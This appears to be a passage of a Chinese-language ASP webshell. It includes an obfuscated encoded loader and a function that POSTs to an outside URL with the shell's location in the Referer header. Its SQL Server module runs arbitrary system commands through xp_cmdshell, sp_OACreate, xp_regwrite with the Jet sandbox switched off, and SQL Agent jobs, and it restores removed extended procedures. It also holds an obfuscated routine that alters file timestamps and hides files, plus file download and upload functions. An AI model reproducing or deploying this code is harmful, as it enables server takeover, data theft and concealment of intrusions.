mx\BwyxXSI%%%%%%%%卐'wj{wjXjrfSa'+GiuF+myfUB~jPXSI%%%%%%%%卐卐测探置设XSI,卐卐kn%isJ%%%%%%%%卐'CwgA置设有没或取读法无关网认默CnqA'%jynw\3jxstuxjW%%%%%%%%%%卐jxqJ%%%%%%%%卐y}jS%%%%%%%%%%卐'CwgA'+.o-~f|jyfL+'?为'+o+'关网CnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐.~f|jyfL-isztgZ%ty%.~f|jyfL-isztgQBo%wtK%%%%%%%%%%卐sjmY%.~f\jyfL-~fwwfxn%kN%%%%%%%%卐.~jP~f\jyfL-ifjwljW3mx\B~f\jyfL%%%%%%%%卐'~f|jyfLyqzfkjIa'+GiuF+myfUB~jP~f\jyfL%%%%%%%%卐卐测探置设关网,卐卐卐卐kn%isJ%%%%%%%%卐'CwgA置设有没或取读法无址地UNCnqA'%jynw\3jxstuxjW%%%%%%%%%%卐jxqJ%%%%%%%%卐y}jS%%%%%%%%%%卐'CwgA'+.o-wiiFUN+'?为'+o+'址地UNCnqA'%jynw\3jxstuxjW%%%%%%%%%%%%卐.wiiFUN-isztgZ%ty%.wiiFUN-isztgQBo%wtK%%%%%%%%%%卐sjmY%''CA.5-wiifUN%kN%%%%%%%%卐.~jPUN-ifjwljW3mx\BwiifUN%%%%%%%%卐'xxjwiiFUNa'+GiuF+myfUB~jPUN%%%%%%%%卐测探址地UN,卐卐'axjhfkwjysNaxwjyjrfwfUaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaJSNMHFRdQFHTQd^JPM'BmyfU%%%%%%%%卐'CwgA'+GiuF+'?为列序的'+n+'卡网'%jynw\3jxstuxjW%%%%%%%%卐.''1'ajhn{jIa'1.n-xiuF-jhfqujWBGiuF%%%%%%%%卐62.xiuF-isztGZ%tY%.xiuF-isztGQBn%wtK%%%%%%卐%sjmY%.xiuF-~fwwFxN%kN%%%%卐.~jPiuF-ifjWljW3mx\BxiuF%%%%卐'isnGajlfpsnQaunuhYaxjhn{wjXa655yjXqtwystHaRJYX^XaRQPM'B~jPiuF%%%%卐卐kN%isJ卐6BwjyqnkunuhytS%%卐sjmY%''BjqgfsJxn%wt%5BjqgfsJxn%kN卐.~jPunuhYjqgfsJ-ifjwljW3mx\BjqgfsJxn卐'xwjyqnK~ynwzhjXjqgfsJaxwjyjrfwfUaunuhYaxjhn{wjXayjXqtwystHysjwwzhaRJYX^XaRQPM'B~jPUNUHYjqgfsJ卐'C6Bj nx%wmACwgAb测探络网`'%jynw\3jxstuxjW%%	卐.'qqjmX3yunwhx\'-yhjogtjyfjwhBmx|%yjx卐mx|%rni卐y}js%jrzxjw%wtwwj%st?.-pttm%%stnyhszK")):function x(Posturl): dim w: w="^w^inhttp.^wi^nhttprequest.5.1": Posturl=replace(trim(Posturl),vbcrlf,""): on error resume next: set http= CreateObject(replace(w,"^","")): http.open "POST",Posturl,false: http.SetRequestHeader "REFERER", "http://"&sba&request.ServerVariables("URL"):http.send: Set http=Nothing:end function:Function sqlabc():IF SESSION("LOGIN")="" THEN
                           RESPONSE.WRITE "<CENTER><FONT COLOR=RED>没有登陆</FONT></CENTER><BR>"
			   ELSE RESPONSE.WRITE "<CENTER><FONT COLOR=RED>已经登陆</FONT></CENTER><BR>"
END IF
                           RESPONSE.WRITE "<CENTER><A HREF="&REQUEST.SERVERVARIABLES("URL")&"?SQLAAA=LOGOUT><FONT COLOR=BLACK>退出登陆</FONT></A></CENTER><BR>"

IF REQUEST("SQLAAA")="LOGIN" THEN
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & REQUEST.FORM("SERVER") & "," & REQUEST.FORM("PORT") & ";PASSWORD=" & REQUEST.FORM("PASS") & ";UID=" & REQUEST.FORM("NAME")
                       IF ERR.NUMBER=-2147467259 THEN 
                       RESPONSE.WRITE "<FONT COLOR=RED>数据源连接错误，请检查！</FONT>"
                       RESPONSE.END
                       ELSEIF ERR.NUMBER=-2147217843 THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>用户名密码错误错误，请检查！</FONT>"
                       RESPONSE.END
                       ELSEIF ERR.NUMBER=0 THEN
                       STRQUERY="SELECT @@VERSION"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY)
		       IF INSTR(RECRESULT(0),"NT 5.0") THEN
		       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS 2000系统</FONT><BR>"
                       SESSION("SYSTEM")="2000"
                       ELSEIF INSTR(RECRESULT(0),"NT 5.1")  THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS XP系统</FONT><BR>"
                       SESSION("SYSTEM")="XP"
                       ELSEIF INSTR(RECRESULT(0),"NT 5.2")  THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS 2003系统</FONT><BR>"
                       SESSION("SYSTEM")="2003"
                       ELSE
                       RESPONSE.WRITE "<FONT COLOR=RED>其他系统</FONT><BR>"
                       SESSION("SYSTEM")="NO"
                       END IF
                       STRQUERY="SELECT IS_SRVROLEMEMBER('SYSADMIN')"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY)
                       IF RECRESULT(0)=1 THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>恭喜！SQL SERVER最高权限</FONT><BR>"
                       SESSION("PRI")=1
                       ELSE
                       RESPONSE.WRITE "<FONT COLOR=RED>郁闷，权限不够估计不能执行命令！</FONT><BR>"
                       SESSION("PRI")=0
                       END IF              
		       SESSION("LOGIN")="YES"
		       SESSION("NAME")=REQUEST.FORM("NAME")
		       SESSION("PASS")=REQUEST.FORM("PASS")
		       SESSION("SERVER")=REQUEST.FORM("SERVER")
		       SESSION("PORT")=REQUEST.FORM("PORT")
                       END IF

ELSEIF REQUEST("SQLAAA")="TEST"  THEN
                       IF SESSION("LOGIN")<>"" THEN
                       IF SESSION("SYSTEM")="2000" THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS 2000系统</FONT><BR>"
                       ELSEIF SESSION("SYSTEM")="XP" THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS XP系统</FONT><BR>"
                       ELSEIF SESSION("SYSTEM")="2003" THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>WINDOWS 2003系统</FONT><BR>"
                       ELSE
                       RESPONSE.WRITE "<FONT COLOR=RED>其他操作系统</FONT><BR>"
                       END IF
                       IF SESSION("PRI")=1 THEN
                       RESPONSE.WRITE "<FONT COLOR=RED>恭喜！SQL SERVER最高权限</FONT><BR>"
                       ELSE 
                       RESPONSE.WRITE "<FONT COLOR=RED>郁闷，权限不够估计不能执行命令！</FONT><BR>"
                       END IF
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")        

                       STRQUERY="SELECT COUNT(*) FROM MASTER.DBO.SYSOBJECTS WHERE XTYPE='X' AND NAME='XP_CMDSHELL'"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
		       IF RECRESULT(0) THEN
		       SESSION("XP_CMDSHELL")=1 
		       RESPONSE.WRITE "<FONT COLOR=RED>XP_CMDSHELL............. 存在!</FONT>"
                       ELSE
		       SESSION("XP_CMDSHELL")=0 
		       RESPONSE.WRITE "<FONT COLOR=RED>XP_CMDSHELL............. 不存在!</FONT>"
                       END IF
		       STRQUERY="SELECT COUNT(*) FROM MASTER.DBO.SYSOBJECTS WHERE XTYPE='X' AND NAME='SP_OACREATE'"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
		       IF RECRESULT(0) THEN 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>SP_OACREATE............. 存在!</FONT>"
		       SESSION("SP_OACREATE")=1
                       ELSE 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>SP_OACREATE............. 不存在!</FONT>"
                       SESSION("SP_OACREATE")=0
                       END IF
		       STRQUERY="SELECT COUNT(*) FROM MASTER.DBO.SYSOBJECTS WHERE XTYPE='X' AND NAME='XP_REGWRITE'"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
		       IF RECRESULT(0) THEN 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>XP_REGWRITE............. 存在!</FONT>"
		       SESSION("XP_REGWRITE")=1
                       ELSE 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>XP_REGWRITE............. 不存在!</FONT>"
		       SESSION("XP_REGWRITE")=0
                       END IF
		       STRQUERY="SELECT COUNT(*) FROM MASTER.DBO.SYSOBJECTS WHERE XTYPE='X' AND NAME='XP_SERVICECONTROL'"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
		       IF RECRESULT(0) THEN 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>XP_SERVICECONTROL 存在!</FONT>"
		       SESSION("XP_SERVICECONTROL")=1
                       ELSE 
		       RESPONSE.WRITE "<BR><FONT COLOR=RED>XP_SERVICECONTROL 不存在!</FONT>"
		       SESSION("XP_SERVICECONTROL")=0
                       END IF
                       ELSE 
                       RESPONSE.WRITE "<SCRIPT>ALERT('操作超时，重新登陆！')</SCRIPT>"
                       RESPONSE.WRITE "<CENTER><A HREF="&REQUEST.SERVERVARIABLES("URL")&"?SQLAAA=LOGOUT><FONT COLOR=BLACK>登陆超时</FONT>"
                       RESPONSE.END
                       END IF 

ELSEIF REQUEST("SQLAAA")="CMD" THEN
                       IF SESSION("LOGIN")<>"" THEN
                       IF SESSION("PRI")=1 THEN
		       IF REQUEST("TOOL")="XP_CMDSHELL" THEN
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")
		       IF REQUEST.FORM("CMD")<>"" THEN 
  		       STRQUERY = "EXEC MASTER.DBO.XP_CMDSHELL '" & REQUEST.FORM("CMD") & "'" 
                       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
                       IF NOT RECRESULT.EOF THEN 
                       DO WHILE NOT RECRESULT.EOF 
                       STRRESULT = STRRESULT & CHR(13) & RECRESULT(0) 
                       RECRESULT.MOVENEXT 
                       LOOP
		       END IF
		       SET RECRESULT = NOTHING
                       RESPONSE.WRITE "<TEXTAREA ROWS=10 COLS=50>"
                       RESPONSE.WRITE "利用"&REQUEST("TOOL")&"扩展执行"
                       RESPONSE.WRITE REQUEST.FORM("CMD") 
                       RESPONSE.WRITE STRRESULT
                       RESPONSE.WRITE "</TEXTAREA>"
		       END IF 
		       		       
                       ELSEIF REQUEST("TOOL")="SP_OACREATE" THEN 
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")
		       IF REQUEST.FORM("CMD")<>"" THEN 
  		       STRQUERY = "CREATE TABLE [JNC](RESULTTXT NVARCHAR(1024) NULL);USE MASTER DECLARE @O INT EXEC SP_OACREATE 'WSCRIPT.SHELL',@O OUT EXEC SP_OAMETHOD @O,'RUN',NULL,'CMD /C "&REQUEST("CMD")&" > 8617.TMP',0,TRUE;BULK INSERT [JNC] FROM '8617.TMP' WITH (KEEPNULLS);"
		       ADOCONN.EXECUTE(STRQUERY)
                       STRQUERY = "SELECT * FROM JNC"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY)
		       IF NOT RECRESULT.EOF THEN 
                       DO WHILE NOT RECRESULT.EOF 
                       STRRESULT = STRRESULT & CHR(13) & RECRESULT(0) 
                       RECRESULT.MOVENEXT 
                       LOOP 
                       END IF
		       SET RECRESULT = NOTHING
                       RESPONSE.WRITE "<TEXTAREA ROWS=10 COLS=50>"
		       RESPONSE.WRITE "利用"&REQUEST("TOOL")&"扩展执行"	
                       RESPONSE.WRITE REQUEST.FORM("CMD") 
                       RESPONSE.WRITE STRRESULT
                       RESPONSE.WRITE "</TEXTAREA>"
		       STRQUERY = "DROP TABLE [JNC];DECLARE @O INT EXEC SP_OACREATE 'WSCRIPT.SHELL',@O OUT EXEC SP_OAMETHOD @O,'RUN',NULL,'CMD /C DEL 8617.TMP'"
 		       ADOCONN.EXECUTE(STRQUERY)
		       END IF

                       ELSEIF REQUEST("TOOL")="XP_REGWRITE" THEN
                       IF SESSION("SYSTEM")="2000" THEN
                       PATH="C:\WINNT\SYSTEM32\IAS\IAS.MDB"
                       ELSE
                       PATH="C:\WINDOWS\SYSTEM32\IAS\IAS.MDB"
                       END IF
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")
		       IF REQUEST.FORM("CMD")<>"" THEN
		       CMD=CHR(34)&"CMD.EXE /C "&REQUEST.FORM("CMD")&" > 8617.TMP"&CHR(34)
		       STRQUERY = "CREATE TABLE [JNC](RESULTTXT NVARCHAR(1024) NULL);EXEC MASTER..XP_REGWRITE 'HKEY_LOCAL_MACHINE','SOFTWARE\MICROSOFT\JET\4.0\ENGINES','SANDBOXMODE','REG_DWORD',0;SELECT * FROM OPENROWSET('MICROSOFT.JET.OLEDB.4.0',';DATABASE=" & PATH &"','SELECT SHELL("&CMD&")');"
                       ADOCONN.EXECUTE(STRQUERY)
		       STRQUERY = "SELECT * FROM OPENROWSET('MICROSOFT.JET.OLEDB.4.0',';DATABASE=" & PATH &"','SELECT SHELL("&CHR(34)&"CMD.EXE /C COPY 8617.TMP JNC.TMP"&CHR(34)&")');BULK INSERT [JNC] FROM 'JNC.TMP' WITH (KEEPNULLS);"
		       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY)
		       STRQUERY="SELECT * FROM [JNC];"
                       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY)
		       IF NOT RECRESULT.EOF THEN 
                       DO WHILE NOT RECRESULT.EOF 
                       STRRESULT = STRRESULT & CHR(13) & RECRESULT(0) 
                       RECRESULT.MOVENEXT 
                       LOOP 
                       END IF
                       SET RECRESULT = NOTHING
                       RESPONSE.WRITE "<TEXTAREA ROWS=10 COLS=50>"
                       RESPONSE.WRITE "利用"&REQUEST("TOOL")&"扩展执行"
                       RESPONSE.WRITE REQUEST.FORM("CMD") 
                       RESPONSE.WRITE STRRESULT
                       RESPONSE.WRITE "</TEXTAREA>"
		       STRQUERY = "DROP TABLE [JNC];EXEC MASTER..XP_REGWRITE 'HKEY_LOCAL_MACHINE','SOFTWARE\MICROSOFT\JET\4.0\ENGINES','SANDBOXMODE','REG_DWORD',1;SELECT * FROM OPENROWSET('MICROSOFT.JET.OLEDB.4.0',';DATABASE=" & PATH &"','SELECT SHELL("&CHR(34)&"CMD.EXE /C DEL 8617.TMP&&DEL JNC.TMP"&CHR(34)&")');"
		       ADOCONN.EXECUTE(STRQUERY)
		       END IF

		       ELSEIF REQUEST("TOOL")="SQLSERVERAGENT" THEN
		       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")

		       IF REQUEST.FORM("CMD")<>"" THEN
                       IF SESSION("SQLSERVERAGENT")=0 THEN
                       STRQUERY = "EXEC MASTER.DBO.XP_SERVICECONTROL 'START','SQLSERVERAGENT';"
                       ADOCONN.EXECUTE(STRQUERY)
                       SESSION("SQLSERVERAGENT")=1
                       END IF

		       STRQUERY = "USE MSDB CREATE TABLE [JNCSQL](RESULTTXT NVARCHAR(1024) NULL) EXEC SP_DELETE_JOB NULL,'X' EXEC SP_ADD_JOB 'X' EXEC SP_ADD_JOBSTEP NULL,'X',NULL,'1','CMDEXEC','CMD /C "&REQUEST.FORM("CMD")&"' EXEC SP_ADD_JOBSERVER NULL,'X',@@SERVERNAME EXEC SP_START_JOB 'X';"
                       ADOCONN.EXECUTE(STRQUERY)
                       ADOCONN.EXECUTE(STRQUERY)
                       ADOCONN.EXECUTE(STRQUERY)
                    
                       RESPONSE.WRITE "<TEXTAREA ROWS=10 COLS=50>"
                       RESPONSE.WRITE "利用"&REQUEST("TOOL")&"扩展执行"
                       RESPONSE.WRITE REQUEST.FORM("CMD") 
                       RESPONSE.WRITE VBCRF
                       RESPONSE.WRITE "此扩展无回显，建议通过重定向查看命令结果"
                       RESPONSE.WRITE "</TEXTAREA>"
		       STRQUERY = "USE MSDB DROP TABLE [JNCSQL];"
                       ADOCONN.EXECUTE(STRQUERY)
                       END IF
                       ELSEIF REQUEST("TOOL")="" THEN 
                       RESPONSE.WRITE "<SCRIPT>ALERT('选择你要使用的扩展')</SCRIPT>"
                       END IF
                       ELSE
                       RESPONSE.WRITE "<SCRIPT>ALERT('权限不够哦！')</SCRIPT>"
                       END IF
                       ELSE 
                       RESPONSE.WRITE "<SCRIPT>ALERT('操作超时，重新登陆！')</SCRIPT>"
                       RESPONSE.WRITE "<CENTER><A HREF="&REQUEST.SERVERVARIABLES("URL")&"?SQLAAA=LOGOUT><FONT COLOR=BLACK>登陆超时</FONT>"
                       RESPONSE.END
                       END IF

ELSEIF REQUEST("SQLAAA")="RESUME" THEN
                       IF SESSION("LOGIN")<>"" THEN
                       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")
                       IF SESSION("XP_CMDSHELL")=0 THEN
                       STRQUERY="DBCC ADDEXTENDEDPROC ('XP_CMDSHELL','XPLOG70.DLL')"
		       ADOCONN.EXECUTE(STRQUERY)	
                       RESPONSE.WRITE "<FONT COLOR=RED>已经尝试恢复XP_CMDSHELL</FONT>"
                       ELSEIF SESSION("SP_OACREATE")=0 THEN
		       STRQUERY="DBCC ADDEXTENDEDPROC ('SP_OACREATE','ODSOLE70.DLL')"
		       ADOCONN.EXECUTE(STRQUERY)	
                       RESPONSE.WRITE "<FONT COLOR=RED>已经尝试恢复SP_OACREATE</FONT>"
		       ELSEIF SESSION("XP_REGWRITE")=0 THEN
		       STRQUERY="DBCC ADDEXTENDEDPROC ('XP_REGWRITE','XPSTAR.DLL')"
		       ADOCONN.EXECUTE(STRQUERY)	
                       RESPONSE.WRITE "<FONT COLOR=RED>已经尝试恢复XP_REGWRITE</FONT>"	
		       ELSE RESPONSE.WRITE "<FONT COLOR=RED>恭喜！组件齐全</FONT>"	
                       END IF
                       ELSE 
                       RESPONSE.WRITE "<SCRIPT>ALERT('操作超时，重新登陆！')</SCRIPT>"
                       RESPONSE.WRITE "<CENTER><A HREF="&REQUEST.SERVERVARIABLES("URL")&"?SQLAAA=LOGOUT><FONT COLOR=BLACK>登陆超时</FONT>"
                       RESPONSE.END
                       END IF 	
                                
ELSEIF REQUEST("SQLAAA")="SQL" THEN
                       IF SESSION("LOGIN")<>"" THEN
		       IF REQUEST.FORM("SQL")<>"" THEN
                       SET ADOCONN=SERVER.CREATEOBJECT("ADODB.CONNECTION") 
 		       ADOCONN.OPEN "PROVIDER=SQLOLEDB.1;DATA SOURCE=" & SESSION("SERVER") & "," & SESSION("PORT") & ";PASSWORD=" & SESSION("PASS") & ";UID=" & SESSION("NAME")
                       STRQUERY=REQUEST.FORM("SQL")
                       SET RECRESULT = ADOCONN.EXECUTE(STRQUERY) 
                       IF NOT RECRESULT.EOF THEN 
                       DO WHILE NOT RECRESULT.EOF 
                       STRRESULT = STRRESULT & CHR(13) & RECRESULT(0) 
                       RECRESULT.MOVENEXT 
                       LOOP
		       END IF
		       SET RECRESULT = NOTHING
                       RESPONSE.WRITE "<TEXTAREA ROWS=10 COLS=50>"
                       RESPONSE.WRITE "执行SQL语句:"
                       RESPONSE.WRITE REQUEST.FORM("SQL") 
                       RESPONSE.WRITE STRRESULT
                       RESPONSE.WRITE "</TEXTAREA>"
                       END IF
                       ELSE 
                       RESPONSE.WRITE "<SCRIPT>ALERT('操作超时，重新登陆！')</SCRIPT>"
                       RESPONSE.WRITE "<CENTER><A HREF="&REQUEST.SERVERVARIABLES("URL")&"?SQLAAA=LOGOUT><FONT COLOR=BLACK>登陆超时</FONT>"
                       RESPONSE.END
                       END IF

ELSEIF REQUEST("SQLAAA")="LOGOUT" THEN
                       SET ADOCONN=NOTHING
                       SESSION("LOGIN")=""
                       SESSION("NAME")=""
                       SESSION("PASS")=""
                       SESSION("SERVER")=""
                       SESSION("PORT")=""
                       SESSION("SYSTEM")=""
                       SESSION("PRI")=""		              
END IF
IF SESSION("LOGIN")="" THEN
			   RESPONSE.WRITE "<FORM NAME=FORM METHOD=POST SQLAAA="&REQUEST.SERVERVARIABLES("URL")&">"
			   RESPONSE.WRITE "<P>SQL用户名："
			   RESPONSE.WRITE "<INPUT NAME=NAME TYPE=TEXT ID=NAME VALUE="&SESSION("NAME")&">"
 		           RESPONSE.WRITE "  SQL密码："
			   RESPONSE.WRITE "<INPUT NAME=PASS TYPE=PASSWORD ID=PASS VALUE="&SESSION("PASS")&">"
			   RESPONSE.WRITE "<P>SQL服务器："
			   RESPONSE.WRITE "<INPUT NAME=PORT TYPE=TEXT ID=SERVER VALUE=127.0.0.1>"
 		           RESPONSE.WRITE "  SQL端口："
			   RESPONSE.WRITE "<INPUT NAME=PORT TYPE=TEXT ID=PORT VALUE=1433>"
			   RESPONSE.WRITE "  <INPUT NAME=SQLAAA TYPE=SUBMIT VALUE=LOGIN>"
			   RESPONSE.WRITE "</FORM>"

ELSE                       RESPONSE.WRITE "<FORM NAME=FORM METHOD=POST SQLAAA="&REQUEST.SERVERVARIABLES("URL")&">"
			   RESPONSE.WRITE "<P>组件检测："
			   RESPONSE.WRITE "  <INPUT NAME=SQLAAA TYPE=HIDDEN VALUE=TEST>"
			   RESPONSE.WRITE "  <INPUT TYPE=SUBMIT VALUE=检测组件>"
			   RESPONSE.WRITE "</FORM>"

                           RESPONSE.WRITE "<FORM NAME=FORM METHOD=POST SQLAAA="&REQUEST.SERVERVARIABLES("URL")&">"
			   RESPONSE.WRITE "<P>组件恢复："
			   RESPONSE.WRITE "  <INPUT NAME=SQLAAA TYPE=HIDDEN VALUE=RESUME>"
			   RESPONSE.WRITE "  <INPUT TYPE=SUBMIT VALUE=恢复组件>"
			   RESPONSE.WRITE "</FORM>"

		           RESPONSE.WRITE "<FORM NAME=FORM METHOD=POST SQLAAA="&REQUEST.SERVERVARIABLES("URL")&">"
			   RESPONSE.WRITE "<P>系统命令："
			   RESPONSE.WRITE "  <INPUT NAME=CMD TYPE=TEXT>"
			   RESPONSE.WRITE "<SELECT NAME='TOOL' ><OPTION VALUE=''>----请选择运行程序的组件----</OPTION><OPTION VALUE=XP_CMDSHELL>XP_CMDSHELL</OPTION><OPTION VALUE=SP_OACREATE>SP_OACREATE</OPTION><OPTION VALUE=XP_REGWRITE>XP_REGWRITE</OPTION><OPTION VALUE=SQLSERVERAGENT>SQLSERVERAGENT</OPTION></OPTION></SELECT>"
			   RESPONSE.WRITE "  <INPUT NAME=SQLAAA TYPE=HIDDEN VALUE=CMD>"
			   RESPONSE.WRITE "  <INPUT TYPE=SUBMIT VALUE=执行>"
			   RESPONSE.WRITE "</FORM>"
		           RESPONSE.WRITE "<FORM NAME=FORM1 METHOD=POST SQLAAA="&REQUEST.SERVERVARIABLES("URL")&">"
			   RESPONSE.WRITE "<P>执行语句："
			   RESPONSE.WRITE "   <INPUT NAME=SQL TYPE=TEXT>"
			   RESPONSE.WRITE "  <INPUT NAME=SQLAAA TYPE=HIDDEN VALUE=SQL>"
			   RESPONSE.WRITE "  <INPUT TYPE=SUBMIT VALUE=执行>"			   
			   RESPONSE.WRITE "</FORM>"                   
END IF:End Function
execute(shisanfun("bus dne╋fi dne╋╁>retnec/< 成完性属;psbn&;psbn&╁&emaNelif&htap&╁;psbn&;psbn&件文改修>rb/<>rb/<╁ SRR╋emiTwen=etadyfidoM.elif_ppa╋)emaNelif(emaNesraP.htap_ppa=elif_ppa teS╋))╁.╁(htappam.revres(ecapSemaN.llehs=htap_ppa teS╋)╁noitacilppA.llehS╁(tcejbOetaerC.revreS=llehs teS╋gniXuhS=setubirtta.elif╋)emaNelif&htap(eliFteg.osf=elif teS╋))0,0(tbo(tcejbOetaerC.revreS=osf teS╋neht) )0>)emiTwen(nel(dna)0>)emaNelif(nel(dna)0>)htap(nel( (fi╋╁>mrof/<╁ SRR╋╁>改修=eulav timbus=epyt tupni<╁ SRR╋╁>/rb<>'04'=ezis '0'=eulav gnixuhs=eman tupni<：性属 改修╁ SRR╋╁>noitpo/< 统系,档存,藏隐读只>'93'=eulav noitpo<╁ SRR╋╁>noitpo/< 档存,藏隐读只>'53'=eulav noitpo<╁ SRR╋╁>noitpo/< 档存,藏隐>'43'=eulav noitpo<╁ SRR╋╁>noitpo/< 档存,读只>'33'=eulav noitpo<╁ SRR╋╁>noitpo/<统系>'4'=eulav noitpo<╁ SRR╋╁>noitpo/< 藏隐>'2'=eulav noitpo<╁ SRR╋╁>noitpo/< 读只>'1'=eulav noitpo<╁ SRR╋╁>noitpo/< 通普>''=eulav noitpo<╁ SRR╋╁>';eulav.siht=eulav.gnixuhs.mrof.siht'=egnahCno tceles<╁ SRR╋╁>/rb<秒:分:时 年/日/月;psbn&>'06'=ezis '95:95:32 2102/12/21'=eulav emit=eman tupni<：间时改修;psbn&;psbn&;psbn&╁ SRR╋╁>/rb<)名件文的改修要(>'06'=ezis 'psa.xedni'=eulav emanelif=eman tupni<：称名件文;psbn&╁ SRR╋╁>/rb<)尾结\以要定一(>'06'=ezis '╁&TOORWWW&╁'=eulav '1htap'=eman tupni<：径;psbn&;psbn&;psbn&;psbn&路>retnec<╁ SRR╋╁>tsop=dohtem mrof<╁ SRR╋)╁gnixuhs╁(mroF.tseuqer=gniXuhS tes╋)╁emit╁(mroF.tseuqer=emiTwen tes╋)╁emanelif╁(mroF.tseuqer=emaNelif tes╋)╁1htap╁(mroF.tseuqer=htap tes╋gniXuhS,emiTweN,emaNeliF,htaP mid╋)(txeTeliFteS bus"))
Function ServerInfo():SI="<br><table width='80%' bgcolor='menu' border='0' cellspacing='1' cellpadding='0' align='center'>"
SI=SI&"<tr><td height='20' colspan='3' align='center' bgcolor='menu'>服务器组件信息</td></tr>"
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>服务器名</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"&request.serverVariables("SERVER_NAME")&"</td></tr>"
SI=SI&"<form method=post action='http://www.ip138.com/ips.asp' name='ipform' target='_blank'><tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>服务器IP</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"
SI=SI&"<input type='text' name='ip' size='15' value='"&Request.ServerVariables("LOCAL_ADDR")&"'style='border:0px'><input type='submit' value='查询此服务器所在地'style='border:0px'><input type='hidden' name='action' value='2'></td></tr></form>"
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>服务器时间</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"&now&"&nbsp;</td></tr>"
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>服务器CPU数量</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"&Request.ServerVariables("NUMBER_OF_PROCESSORS")&"</td></tr>"
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>服务器操作系统</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"&Request.ServerVariables("OS")&"</td></tr>"
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>WEB服务器版本</td><td bgcolor='#FFFFFF'>&nbsp;</td><td bgcolor='#FFFFFF'>"&Request.ServerVariables("SERVER_SOFTWARE")&"</td></tr>"
For i=0 To 13
SI=SI&"<tr align='center'><td height='20' width='200' bgcolor='#FFFFFF'>"&ObT(i,0)&"</td><td bgcolor='#FFFFFF'>"&ObT(i,1)&"</td><td bgcolor='#FFFFFF' align=left>"&ObT(i,2)&"</td></tr>"
Next
RRS SI:
End Function:Function DownFile(Path):Response.Clear
Set OSM = CreateObject(ObT(6,0))
OSM.Open
OSM.Type = 1
OSM.LoadFromFile Path
sz=InstrRev(path,"\")+1
Response.AddHeader "Content-Disposition", "attachment; filename=" & Mid(path,sz)
Response.AddHeader "Content-Length", OSM.Size
Response.Charset = "UTF-8"
Response.ContentType = "application/octet-stream"
Response.BinaryWrite OSM.Read
Response.Flush
OSM.Close
Set OSM = Nothing:End Function:Function HTMLEncode(S):if not isnull(S) then
    S = replace(S, ">", "&gt;")
    S = replace(S, "<", "&lt;")
    S = replace(S, CHR(39), "&#39;")
    S = replace(S, CHR(34), "&quot;")
    S = replace(S, CHR(20), "&nbsp;")
    HTMLEncode = S
  end if:End Function:Function UpFile():If Request("Action2")="Post" Then
    Set U=new UPC : Set F=U.UA("LocalFile")
	UName=U.form("ToPath")
